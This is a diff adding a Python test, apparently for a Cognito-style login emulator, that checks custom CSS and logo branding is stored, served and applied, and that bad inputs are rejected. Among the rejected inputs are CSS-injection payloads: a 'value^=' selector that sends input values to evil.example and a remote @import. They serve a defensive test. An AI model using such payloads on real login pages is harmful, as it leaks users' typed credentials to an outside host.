@@ -4,6 +4,7 @@ also verifies the ID token (signature, issuer, audience, nonce, at_hash)."""
 
 from __future__ import annotations
 
+import re
 import secrets
 import warnings
 
@@ -560,3 +561,42 @@ def test_sign_up_is_offered_only_where_the_pool_allows_it(server, web_app):
     confirm = browser.submit({"email": f"ada-{uid(6)}@example.com", "password": PASSWORD,
                               "confirm_password": PASSWORD})
     assert confirm.status_code == 200 and 'name="code"' in confirm.text
+
+
+PNG_1PX = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000"
+    "1ff89993d1d0000000049454e44ae426082")
+
+
+def test_ui_customization_brands_the_pages(server, cognito, web_app):
+    pool_id, client = web_app()
+    css = ".banner-customizable { background-color: #0b3d91; }\n.submitButton-customizable:hover { color: #fff; }"
+    pool_ui = cognito.set_ui_customization(UserPoolId=pool_id, CSS=css, ImageFile=PNG_1PX)["UICustomization"]
+    assert pool_ui["ClientId"] == "ALL" and pool_ui["CSS"] == css and pool_ui["ImageUrl"].startswith(server.url)
+    got = cognito.get_ui_customization(UserPoolId=pool_id, ClientId=client["ClientId"])["UICustomization"]
+    assert got["ClientId"] == "ALL" and got["CSS"] == css  # the pool's, for a client without its own
+
+    page = Browser(server.url).get(authorize_url(server, client["ClientId"], verifier="v" * 50))
+    css_href = re.search(r'<link rel="stylesheet" href="(/login/assets/custom/[^"]+)"', page.text).group(1)
+    logo_src = re.search(r'<img class="logo-customizable" src="([^"]+)"', page.text).group(1)
+    served = requests.get(server.url + css_href.replace("&#38;", "&"), timeout=10)
+    assert served.status_code == 200 and served.headers["Content-Type"].startswith("text/css") and served.text == css
+    logo = requests.get(server.url + logo_src.replace("&#38;", "&"), timeout=10)
+    assert logo.status_code == 200 and logo.headers["Content-Type"] == "image/png" and logo.content == PNG_1PX
+
+    # A client's own customization wins over the pool's.
+    own = ".label-customizable { color: #333; }"
+    cognito.set_ui_customization(UserPoolId=pool_id, ClientId=client["ClientId"], CSS=own)
+    got = cognito.get_ui_customization(UserPoolId=pool_id, ClientId=client["ClientId"])["UICustomization"]
+    assert got["ClientId"] == client["ClientId"] and got["CSS"] == own and "ImageUrl" not in got
+
+    for bad in ("body { color: red }", "input[value^=a] { background: url(https://evil.example/a) }",
+                "@import 'https://evil.example/x.css';", ".banner-customizable { color: red"):
+        with pytest.raises(cognito.exceptions.InvalidParameterException):
+            cognito.set_ui_customization(UserPoolId=pool_id, CSS=bad)
+    with pytest.raises(cognito.exceptions.InvalidParameterException):
+        cognito.set_ui_customization(UserPoolId=pool_id, ImageFile=b"GIF89a not a png")
+    other_pool, other = web_app()
+    with pytest.raises(cognito.exceptions.ResourceNotFoundException):
+        cognito.set_ui_customization(UserPoolId=pool_id, ClientId=other["ClientId"], CSS=own)
+    assert requests.get(f"{server.url}/login/assets/custom/{other_pool}/ALL.css", timeout=10).status_code == 404
